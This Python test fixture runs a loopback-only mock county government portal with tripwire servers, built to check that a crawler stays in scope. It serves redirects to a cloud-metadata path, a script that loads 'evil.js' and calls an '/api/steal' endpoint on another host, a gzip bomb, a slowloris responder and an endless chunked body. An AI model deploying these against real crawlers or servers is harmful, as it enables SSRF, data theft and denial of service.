"""A hostile portal for the reliability suite (loopback only), and the tripwires it points at.

``HostilePortal`` serves a small county portal (home → 年报 column → report pages) whose
pages do what real broken or hostile servers do to a crawler:

* redirects out of scope: a report link answering 302 to another port of 127.0.0.1, an
  attachment answering 302 to ``127.0.0.2:<port>/latest/meta-data/`` (the cloud metadata
  path), a meta refresh to another host;
* endpoint URLs out of scope: a JPaaS ``unitUrl`` on another port;
* absurd counts: a JPaaS listing declaring ``count="100000"`` with ``rows="1"``, a TRS pager
  of 10^30 pages;
* a page the browser renders (a 年报 column drawn by script) whose scripts ask other hosts
  for images, scripts and data, and fetch an in-scope URL that redirects out of scope;
* a page of ``big_page_bytes`` bytes (50 MB in the bench), a gzip bomb, a slowloris answer
  (one byte a second), an endless chunked body, bytes that decode as no declared charset.

``Tripwire`` is an HTTP server that records every request it gets; a test asserts it got none.
"""

from __future__ import annotations

import gzip
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

COUNTY = "清河县"


class _Quiet(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:
        pass

    def send(
        self,
        status: int,
        body: bytes,
        ctype: str = "text/html; charset=utf-8",
        headers: tuple[tuple[str, str], ...] = (),
    ) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


class Tripwire:
    """Records every request; ``hits`` lists (method, host header, path)."""

    def __init__(self, host: str = "127.0.0.1"):
        hits: list[tuple[str, str, str]] = []
        self.hits = hits

        class Handler(_Quiet):
            def _hit(self) -> None:
                hits.append((self.command, self.headers.get("Host", ""), self.path))
                self.send(
                    200, b"<html><title>tripwire</title><body>you should not be here</body></html>"
                )

            do_GET = do_POST = do_HEAD = _hit

        self.server = ThreadingHTTPServer((host, 0), Handler)
        self.host, self.port = host, self.server.server_address[1]
        self.url = f"http://{host}:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _page(title: str, body: str, head: str = "") -> str:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
        f"<body>{body}</body></html>"
    )


def _report(year: int, extra: str = "") -> str:
    title = f"{COUNTY}{year}年政府信息公开工作年度报告"
    rows = "".join(
        f"<tr><td>{label}</td><td>{n}</td></tr>"
        for label, n in (("本年新收政府信息公开申请数量", 12), ("本年度办理结果总计", 12))
    )
    return _page(
        title,
        f'<h1>{title}</h1><div id="zoom"><p>一、总体情况</p><table>{rows}</table>{extra}</div>',
    )


def _li(path: str, title: str) -> str:
    return f'<li><a href="{path}" title="{title}">{title}</a><span>2024-01-20</span></li>'


@dataclass
class HostilePortal:
    """The portal; ``faults`` picks which hostile pages its 年报 column lists."""

    trip: Tripwire  # another port of 127.0.0.1
    trip2: Tripwire  # 127.0.0.2, where the metadata path is asked for
    faults: tuple[str, ...] = ("redirects", "endpoint", "counts", "browser")
    big_page_bytes: int = 50 * 1024 * 1024
    requests: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.lock = threading.Lock()
        portal = self

        class Handler(_Quiet):
            def do_GET(self) -> None:
                with portal.lock:
                    portal.requests.append(self.path)
                portal.answer(self)

            do_HEAD = do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.root_url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    # ------------------------------------------------------------------ pages

    def listing(self) -> list[tuple[str, str]]:
        entries = [("/nb/2023.html", f"{COUNTY}2023年政府信息公开工作年度报告")]
        if "redirects" in self.faults:
            entries += [
                ("/nb/2022.html", f"{COUNTY}2022年政府信息公开工作年度报告"),
                ("/nb/2021.html", f"{COUNTY}2021年政府信息公开工作年度报告"),
                ("/nb/2020.html", f"{COUNTY}2020年政府信息公开工作年度报告"),
            ]
        if "big" in self.faults:
            entries.append(("/nb/big.html", f"{COUNTY}2019年政府信息公开工作年度报告"))
        if "bodies" in self.faults:
            entries += [
                ("/nb/bomb.html", f"{COUNTY}2018年政府信息公开工作年度报告"),
                ("/nb/slow.html", f"{COUNTY}2017年政府信息公开工作年度报告"),
                ("/nb/endless.html", f"{COUNTY}2016年政府信息公开工作年度报告"),
                ("/nb/badenc.html", f"{COUNTY}2015年政府信息公开工作年度报告"),
            ]
        return entries

    def answer(self, h: _Quiet) -> None:
        path = h.path
        if path == "/robots.txt":
            return h.send(200, b"User-agent: *\nDisallow:\n", "text/plain")
        if path == "/":
            links = '<a href="/nb/">政府信息公开年报</a>'
            if "endpoint" in self.faults:
                links += '<a href="/jp/">政府信息公开年报</a>'
            if "counts" in self.faults:
                links += '<a href="/jpc/">政府信息公开年报</a><a href="/trs/">政府信息公开年报</a>'
            if "browser" in self.faults:
                links += '<a href="/js/">政府信息公开年报</a>'
            return h.send(200, _page(f"{COUNTY}人民政府", links).encode())
        if path == "/nb/":
            items = "".join(_li(p, t) for p, t in self.listing())
            return h.send(200, _page("政府信息公开年报", f'<ul class="list">{items}</ul>').encode())
        if path == "/nb/2023.html":
            return h.send(
                200,
                _report(2023, '<p>附件：<a href="/files/nb2023.pdf">2023年报.pdf</a></p>').encode(),
            )
        if path == "/files/nb2023.pdf":  # the attachment: off to the metadata service
            return h.send(302, b"", headers=(("Location", f"{self.trip2.url}/latest/meta-data/"),))
        if path == "/nb/2022.html":  # a report link redirecting to another port
            return h.send(302, b"", headers=(("Location", f"{self.trip.url}/nb/2022.html"),))
        if path == "/nb/2021.html":  # a redirect chain whose second hop leaves
            return h.send(301, b"", headers=(("Location", "/nb/2021-moved.html"),))
        if path == "/nb/2021-moved.html":
            return h.send(
                302,
                b"",
                headers=(("Location", f"http://127.0.0.2:{self.trip2.port}/nb/2021.html"),),
            )
        if path == "/nb/2020.html":  # a meta refresh to another host
            head = f'<meta http-equiv="refresh" content="0;url={self.trip.url}/nb/2020.html">'
            return h.send(200, _page("跳转", "", head).encode())
        if path == "/jp/":  # a JPaaS shell whose list API is on another port
            return h.send(
                200, _page("政府信息公开年报", _jpaas(f"{self.trip.url}/api/list", 3, 15)).encode()
            )
        if path == "/jpc/":  # a JPaaS shell declaring 100,000 records, one per page
            return h.send(200, _page("政府信息公开年报", _jpaas("/api/list", 100000, 1)).encode())
        if path.startswith("/api/list"):
            return h.send(200, b'{"data":{"html":""}}', "application/json")
        if path == "/trs/":  # a TRS pager of 10^30 pages
            return h.send(
                200,
                _page(
                    "政府信息公开年报",
                    '<ul class="list"></ul><script>createPageHTML('
                    + "1"
                    + "0" * 30
                    + ', 0, "index", "html");</script>',
                ).encode(),
            )
        if path.startswith("/trs/index_"):
            return h.send(404, b"not found")
        if path == "/js/":
            return h.send(
                200, _page("政府信息公开年报", '<ul id="list"></ul>' + self._script()).encode()
            )
        if path == "/js/data":
            return h.send(
                200, _li("/nb/2023.html", f"{COUNTY}2023年政府信息公开工作年度报告").encode()
            )
        if path == "/js/hop":  # in scope, then out
            return h.send(302, b"", headers=(("Location", f"{self.trip.url}/js/hop"),))
        if path == "/nb/big.html":
            return h.send(200, self.big_page())
        if path == "/nb/bomb.html":  # 1 GB of zeros in 1 MB of gzip
            return h.send(200, _gzip_bomb(), headers=(("Content-Encoding", "gzip"),))
        if path == "/nb/slow.html":
            return _slowloris(h)
        if path == "/nb/endless.html":
            return _endless(h)
        if path == "/nb/badenc.html":  # declared UTF-8, neither UTF-8 nor GBK, control bytes in it
            body = (
                _report(2015)
                .encode("utf-8")
                .replace("总体情况".encode(), b"\x81\x30\xfe\xff\x00\x07\x1b\xc0\xaf\xed\xa0\x80")
            )
            return h.send(200, body)
        return h.send(404, _page("404", "页面不存在").encode())

    def _script(self) -> str:
        other, meta = self.trip.url, self.trip2.url
        return (
            "<script>"
            f"var i=new Image();i.src='{meta}/latest/meta-data/x.png';"
            f"var s=document.createElement('script');s.src='{other}/evil.js';document.head.appen"
            "dChild(s);"
            f"fetch('{other}/api/steal',{{mode:'no-cors'}}).catch(function(){{}});"
            "fetch('/js/hop').catch(function(){});"
            "fetch('/js/data').then(function(r){return r.text()}).then(function(t){"
            "document.getElementById('list').innerHTML=t;});"
            "</script>"
        )

    def big_page(self) -> bytes:
        """A report page of ``big_page_bytes`` bytes: the report, then an endless table."""
        head = _report(2019).encode()[: -len("</div></body></html>")]
        row = "<tr><td>收到申请数</td><td>12</td><td>3</td><td>4</td><td>5</td></tr>".encode()
        n = max(0, self.big_page_bytes - len(head) - 40) // len(row)
        return head + b"<table>" + row * n + b"</table></div></body></html>"


def _jpaas(unit_url: str, count: int, rows: int) -> str:
    return (
        f'<div id="pagination" unitUrl="{unit_url}" count="{count}" rows="{rows}" '
        "queryData=\"{'webId':'1','tplSetId':'2','pageId':'3','tagId':'4'}\"></div>"
    )


_BOMB: bytes | None = None


def _gzip_bomb() -> bytes:
    global _BOMB
    if _BOMB is None:
        _BOMB = gzip.compress(b"\0" * (1024 * 1024 * 1024), compresslevel=9)
    return _BOMB


def _slowloris(h: _Quiet, seconds: int = 600) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "text/html; charset=utf-8")
    h.send_header("Content-Length", str(seconds))
    h.end_headers()
    try:
        for _ in range(seconds):
            h.wfile.write(b" ")
            h.wfile.flush()
            time.sleep(1)
    except OSError:
        pass


def _endless(h: _Quiet) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "text/html; charset=utf-8")
    h.send_header("Transfer-Encoding", "chunked")
    h.end_headers()
    chunk = b"<p>" + "无穷无尽".encode() * 2000 + b"</p>"
    try:
        while True:
            h.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
    except OSError:
        pass


@contextmanager
def hostile_portal(**kwargs) -> Iterator[HostilePortal]:
    """A running ``HostilePortal`` with its two tripwires, all stopped afterwards."""
    trip, trip2 = Tripwire("127.0.0.1"), Tripwire("127.0.0.2")
    portal = HostilePortal(trip, trip2, **kwargs)
    try:
        yield portal
    finally:
        for server in (portal, trip, trip2):
            server.close()
